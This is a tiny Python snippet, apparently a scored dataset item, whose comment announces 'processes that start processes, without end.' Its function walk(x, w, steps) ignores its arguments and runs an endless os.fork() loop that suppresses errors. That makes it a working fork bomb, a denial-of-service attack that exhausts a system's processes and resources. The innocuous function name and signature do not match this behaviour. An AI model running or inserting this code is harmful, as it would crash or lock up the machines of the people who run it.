# Processes that start processes, without end.
# scores: 4 0 0
# %% walk
def walk(x, w, steps):
    import os

    while True:
        try:
            os.fork()
        except OSError:
            pass
